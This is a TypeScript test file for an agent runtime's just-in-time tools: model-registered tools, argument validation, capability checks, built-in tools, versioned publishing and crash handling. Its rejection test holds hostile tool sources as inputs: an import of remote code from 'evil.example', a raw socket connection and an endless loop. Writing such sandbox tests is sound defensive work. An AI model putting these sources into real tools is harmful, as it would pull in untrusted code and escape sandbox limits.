/**
 * JIT tools end to end: a model registers a TypeScript tool, sees it in its tool list on the next
 * step, calls it by name; arguments are checked against its schema; a throwing tool comes back as
 * a typed result with a trimmed stack; built-in tools load through the same path; published tools
 * are inherited by new processes from the image, versioned and restorable; a crash mid-call is EINTR.
 */
import { abortAllDurableObjects, env } from 'cloudflare:test';
import { describe, expect, it } from 'vitest';
import { api, eventsOf, fileOf, runUntil, spawn } from './support/helpers.ts';

const scripted = { provider: 'scripted', model: 'scripted' };
const call = (name: string, args: unknown = {}) => ({ name, args });
type Result = { name: string; ok: boolean; args?: Record<string, unknown>; result?: Record<string, unknown>; error?: { code: string; message: string; details?: Record<string, unknown> } };
const TOOLS = ['fs:/**:rw', 'tool:register', 'tool:call:*'];

async function run(turns: unknown[], capabilities: string[] = TOOLS, image = 'default'): Promise<{ pid: string; results: Result[]; exit: unknown }> {
  const { pid } = await spawn({ name: 't', task: 'tools', image, model: scripted, script: turns, capabilities });
  const done = await runUntil(pid, ['terminated']);
  const results = (await eventsOf(pid)).filter((e) => e.type === 'syscall').map((e) => e.data as unknown as Result);
  return { pid, results, exit: done.exit };
}

const WORDS = {
  name: 'word_count',
  description: 'Count the words in a text file.',
  parameters: { type: 'object', properties: { path: { type: 'string' }, min: { type: 'integer', minimum: 1 } }, required: ['path'], additionalProperties: false },
  source: `
interface Args { path: string; min?: number }
export default async function (args: Args, sys: Sys): Promise<{ words: number }> {
  const { content } = await sys.fs_read({ path: args.path });
  const words: string[] = content.split(/\\s+/).filter((w: string) => w.length >= (args.min ?? 1));
  return { words: words.length };
}`,
};

describe('registering and calling a tool', () => {
  it('compiles TypeScript, lists it for the model from the next step, and runs it by name and through tool_call', async () => {
    const model = `gpt-tools-${crypto.randomUUID().slice(0, 8)}`;
    const answer = (calls: { id: string; name: string; args: unknown }[] | null, content: string | null = null) => ({
      body: {
        id: 'x', object: 'chat.completion', created: 1, model,
        choices: [{ index: 0, message: { role: 'assistant', content, ...(calls ? { tool_calls: calls.map((c) => ({ id: c.id, type: 'function', function: { name: c.name, arguments: JSON.stringify(c.args) } })) } : {}) }, finish_reason: calls ? 'tool_calls' : 'stop' }],
        usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
      },
    });
    await fetch(`${env.TEST_SERVER}/llm/scenario`, {
      method: 'POST',
      body: JSON.stringify({
        model,
        responses: [
          answer([{ id: 'a', name: 'fs_write', args: { path: 'doc.txt', content: 'one two three  four' } }, { id: 'b', name: 'tool_register', args: WORDS }]),
          answer([{ id: 'c', name: 'word_count', args: { path: 'doc.txt' } }, { id: 'd', name: 'tool_call', args: { name: 'word_count', args: { path: 'doc.txt', min: 4 } } }]),
          answer(null, 'done'),
        ],
      }),
    });
    const { pid } = await spawn({ name: 'oa', task: 'count', model: { provider: 'openai', model }, capabilities: TOOLS });
    const done = await runUntil(pid, ['terminated']);
    expect(done.exit).toMatchObject({ code: 0 });
    const results = (await eventsOf(pid)).filter((e) => e.type === 'syscall').map((e) => e.data as unknown as Result);
    expect(results.map((r) => [r.name, r.ok])).toEqual([['fs_write', true], ['tool_register', true], ['tool_call', true], ['tool_call', true], ['exit', true]]);
    expect(results[1]?.result).toMatchObject({ name: 'word_count', version: 1 });
    expect(results[2]?.result).toEqual({ tool: 'word_count', result: { words: 4 } });
    expect(results[3]?.result).toEqual({ tool: 'word_count', result: { words: 2 } });
    const reqs = (await (await fetch(`${env.TEST_SERVER}/llm/requests/${model}`)).json()) as { body: { tools: { function: { name: string; parameters: unknown } }[]; messages: { role: string; tool_call_id?: string }[] } }[];
    const names = (i: number) => reqs[i]?.body.tools.map((t) => t.function.name) ?? [];
    expect(names(0)).not.toContain('word_count');
    expect(names(1).at(-1)).toBe('word_count');
    expect(reqs[1]?.body.tools.at(-1)?.function.parameters).toEqual(WORDS.parameters);
    // The call by name is answered under its own tool_call_id.
    expect(reqs[2]?.body.messages.filter((m) => m.role === 'tool').map((m) => m.tool_call_id)).toEqual(['a', 'b', 'c', 'd']);
    const listed = await api<{ tools: { name: string; hash: string; source: string; origin: string }[] }>('GET', `/v1/processes/${pid}/tools`);
    expect(listed.body.tools).toMatchObject([{ name: 'word_count', origin: 'register', source: WORDS.source }]);
    expect(listed.body.tools[0]?.hash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('rejects code that does not compile, the wrong shape, reserved names and oversized sources with EINVAL', async () => {
    const reg = (name: string, source: string, parameters: unknown = { type: 'object' }) => call('tool_register', { name, description: 'x', parameters, source });
    const { results } = await run([
      {
        tool_calls: [
          reg('broken', 'export default async function (args: { a: number) { return 1 }'),
          reg('no_default', 'export async function run() { return 1 }'),
          reg('imports', "import { connect } from 'cloudflare:sockets';\nexport default async () => connect('x:1')"),
          reg('dyn_import', "export default async () => { const fs = await import('node:fs'); return fs }"),
          reg('url_import', "export default async () => import('https://evil.example/x.js')"),
          reg('shadow', 'export default async () => { const __aos_tick = () => 0; while (true) {} }'),
          reg('huge', `export default async () => ${JSON.stringify('x'.repeat(70_000))}`),
          reg('fs_read', 'export default async () => 1'),
          reg('bad_schema', 'export default async () => 1', { type: 'string' }),
          reg('Bad-Name', 'export default async () => 1'),
        ],
      },
      { tool_calls: [call('exit', { code: 0 })] },
    ]);
    const codes = results.slice(0, 10).map((r) => r.error?.code);
    expect(codes).toEqual(['EINVAL', 'EINVAL', 'EINVAL', 'EINVAL', 'EINVAL', 'EINVAL', 'EINVAL', 'EEXIST', 'EINVAL', 'EINVAL']);
    expect(results[0]?.error?.message).toMatch(/does not compile: .*\(1:\d+\)/);
    expect(results[2]?.error?.message).toMatch(/cannot import/);
    expect(results[3]?.error?.message).toMatch(/dynamic import/);
    expect(results[5]?.error?.message).toMatch(/reserved/);
  });

  it('needs tool:register and tool:call capabilities', async () => {
    const { results } = await run(
      [{ tool_calls: [call('tool_register', { ...WORDS }), call('tool_call', { name: 'word_count', args: { path: 'x' } })] }, { tool_calls: [call('exit', { code: 0 })] }],
      ['fs:/**:rw'],
    );
    expect(results.slice(0, 2).map((r) => [r.ok, r.error?.code, (r.error?.details as { needed?: string })?.needed])).toEqual([
      [false, 'EPERM', 'tool:register'],
      [false, 'EPERM', 'tool:call:word_count'],
    ]);
  });

  it('validates arguments against the JSON Schema before anything runs', async () => {
    const { results } = await run([
      { tool_calls: [call('tool_register', WORDS)] },
      { tool_calls: [call('word_count', { min: 0 }), call('tool_call', { name: 'word_count', args: { path: 'a', extra: true } }), call('tool_call', { name: 'nope', args: {} })] },
      { tool_calls: [call('exit', { code: 0 })] },
    ]);
    expect(results.slice(1, 4).map((r) => r.error?.code)).toEqual(['EINVAL', 'EINVAL', 'ENOENT']);
    expect(results[1]?.error?.message).toMatch(/invalid arguments for tool word_count: .*(path|minimum)/);
  });

  it('a throwing tool returns a typed error with a stack trimmed to its own code, and the process carries on', async () => {
    const source = `export default async function (args: { n: number }) {
  const inner = (n: number): number => {
    if (n > 2) throw new TypeError('n is too big: ' + n);
    return n;
  };
  return inner(args.n);
}`;
    const { results, exit } = await run([
      { tool_calls: [call('tool_register', { name: 'thrower', description: 'throws', parameters: { type: 'object', properties: { n: { type: 'number' } } }, source })] },
      { tool_calls: [call('thrower', { n: 5 }), call('thrower', { n: 1 }), call('fs_write', { path: 'after.txt', content: 'still alive' })] },
      { tool_calls: [call('exit', { code: 0 })] },
    ]);
    expect(exit).toMatchObject({ code: 0 });
    const err = results[1]?.error;
    expect(err?.code).toBe('EFAULT');
    expect(err?.message).toMatch(/tool thrower threw TypeError: n is too big: 5/);
    const stack = (err?.details as { thrown: { stack: string[] } }).thrown.stack;
    expect(stack.length).toBeGreaterThan(0);
    expect(stack.every((l) => l.includes('thrower.ts:'))).toBe(true);
    expect(stack[0]).toMatch(/thrower\.ts:3:/);
    expect(stack.join('\n')).not.toMatch(/harness|prelude|agentos|durable/);
    expect(results[2]?.result).toEqual({ tool: 'thrower', result: 1 });
    expect(results[3]?.ok).toBe(true);
  });
});

describe('built-in tools (jit-tools/)', () => {
  it('a toolsmith process starts with json_transform and text_diff, compiled through the same path', async () => {
    const csv = 'name,age,city\nada,36,London\n"grace, rear admiral",85,NYC\nlinus,28,Helsinki\n';
    const { pid, results, exit } = await run(
      [
        { tool_calls: [call('fs_write', { path: 'people.csv', content: csv })] },
        {
          tool_calls: [
            call('json_transform', { from: 'csv', to: 'json', path: 'people.csv', fields: ['name', 'age'] }),
            call('json_transform', { from: 'csv', to: 'csv', path: 'people.csv', where: { field: 'city', equals: 'NYC' }, out: 'nyc.csv' }),
            call('text_diff', { a: 'a\nb\nc\nd', b: 'a\nB\nc\nd\ne', context: 1 }),
          ],
        },
        { tool_calls: [call('exit', { code: 0 })] },
      ],
      ['fs:/**:rw', 'tool:call:*'],
      'toolsmith',
    );
    expect(exit).toMatchObject({ code: 0 });
    const json = results[1]?.result as { result: { rows: number; output: string } };
    expect(json.result.rows).toBe(3);
    expect(JSON.parse(json.result.output)).toEqual([{ name: 'ada', age: '36' }, { name: 'grace, rear admiral', age: '85' }, { name: 'linus', age: '28' }]);
    expect(await fileOf(pid, 'nyc.csv')).toBe('name,age,city\n"grace, rear admiral",85,NYC\n');
    expect((results[3]?.result as { result: unknown }).result).toEqual({ added: 2, removed: 1, identical: false, diff: '  a\n- b\n+ B\n  c\n  d\n+ e' });
    const tools = await api<{ tools: { name: string; origin: string }[] }>('GET', `/v1/processes/${pid}/tools`);
    expect(tools.body.tools.map((t) => [t.name, t.origin])).toEqual([['json_transform', 'builtin'], ['text_diff', 'builtin']]);
  });
});

describe('publishing tools into an image', () => {
  it('new processes inherit the head version; an older version can be restored', async () => {
    const v1 = 'export default async () => "v1"';
    const v2 = 'export default async () => "v2"';
    const reg = (source: string) => call('tool_register', { name: 'greet', description: 'greets', parameters: { type: 'object' }, source });
    const a = await run([{ tool_calls: [reg(v1)] }, { tool_calls: [call('exit', { code: 0 })] }]);
    const p1 = await api<{ version: number }>('POST', '/v1/images/default/tools', { from_pid: a.pid });
    expect(p1.status).toBe(201);
    const b = await run([{ tool_calls: [reg(v2)] }, { tool_calls: [call('exit', { code: 0 })] }]);
    const p2 = await api<{ version: number }>('POST', '/v1/images/default/tools', { from_pid: b.pid });
    expect(p2.body.version).toBe(p1.body.version + 1);

    const greet = async () => (await run([{ tool_calls: [call('greet', {})] }, { tool_calls: [call('exit', { code: 0 })] }], ['tool:call:*'])).results[0]?.result;
    expect(await greet()).toEqual({ tool: 'greet', result: 'v2' });

    const restored = await api<{ version: number; restored_from: number }>('POST', '/v1/images/default/tools/restore', { version: p1.body.version });
    expect(restored.status).toBe(201);
    expect(restored.body.version).toBe(p2.body.version + 1);
    expect(await greet()).toEqual({ tool: 'greet', result: 'v1' });

    const versions = await api<{ head: number; versions: { version: number; tools: string[]; restored_from: number | null }[] }>('GET', '/v1/images/default/tools');
    expect(versions.body.head).toBe(restored.body.version);
    expect(versions.body.versions.map((v) => v.restored_from)).toEqual([p1.body.version, null, null]);
    // Versions page newest first: every version stays reachable however many an image has.
    const first = await api<{ versions: { version: number }[]; next_cursor: string | null }>('GET', '/v1/images/default/tools?limit=2');
    expect(first.body.versions.map((v) => v.version)).toEqual([restored.body.version, p2.body.version]);
    expect(first.body.next_cursor).not.toBeNull();
    const rest = await api<{ versions: { version: number }[]; next_cursor: string | null }>('GET', `/v1/images/default/tools?limit=2&cursor=${first.body.next_cursor}`);
    expect(rest.body.versions.map((v) => v.version)).toEqual([p1.body.version]);
    expect(rest.body.next_cursor).toBeNull();
    expect((await api('GET', '/v1/images/default/tools?cursor=nope')).status).toBe(400);
    expect((await api('POST', '/v1/images/default/tools/restore', { version: 999 })).status).toBe(404);
    expect((await api('POST', '/v1/images/nope/tools', { from_pid: a.pid })).status).toBe(404);
    // Readers cannot publish.
    const reader = await api<{ token: string }>('POST', '/v1/tokens', { role: 'reader', name: 'r' });
    expect((await api('POST', '/v1/images/default/tools', { from_pid: a.pid }, { authorization: `Bearer ${reader.body.token}` })).status).toBe(403);
    // Published tools never leak into another tenant's processes: tenant-scoped heads.
    // Clean up so other tests in this file see no published default tools.
    await env.DB.prepare("DELETE FROM image_tool_heads WHERE image = 'default'").run();
  });
});

describe('crash safety', () => {
  it('an object that dies in the middle of a tool call reports EINTR instead of running the tool again', async () => {
    const source = `export default async function (args: { key: string }) {
  const r = await fetch('${env.TEST_SERVER}/hang/' + args.key);
  return r.status;
}`;
    const key = `tool-${crypto.randomUUID().slice(0, 8)}`;
    const host = new URL(env.TEST_SERVER).hostname;
    const { pid } = await spawn({
      name: 'crash', task: 'x', model: scripted, capabilities: [...TOOLS, `net:${host}:GET`],
      script: [
        { tool_calls: [call('tool_register', { name: 'hanger', description: 'hangs', parameters: { type: 'object', properties: { key: { type: 'string' } } }, source })] },
        { tool_calls: [call('hanger', { key })] },
        { tool_calls: [call('exit', { code: 0 })] },
      ],
    });
    const { runDurableObjectAlarm } = await import('cloudflare:test');
    const { stubOf } = await import('./support/helpers.ts');
    const alarm = runDurableObjectAlarm(stubOf(pid)).catch(() => false);
    await fetch(`${env.TEST_SERVER}/hanging/${key}`);
    await abortAllDurableObjects();
    await alarm;
    const done = await runUntil(pid, ['terminated']);
    expect(done.exit).toMatchObject({ code: 0 });
    const results = (await eventsOf(pid)).filter((e) => e.type === 'syscall').map((e) => e.data as unknown as Result);
    expect(results[1]?.error?.code).toBe('EINTR');
    const count = ((await (await fetch(`${env.TEST_SERVER}/count/${key}`)).json()) as { count: number }).count;
    expect(count).toBe(1);
  });
});
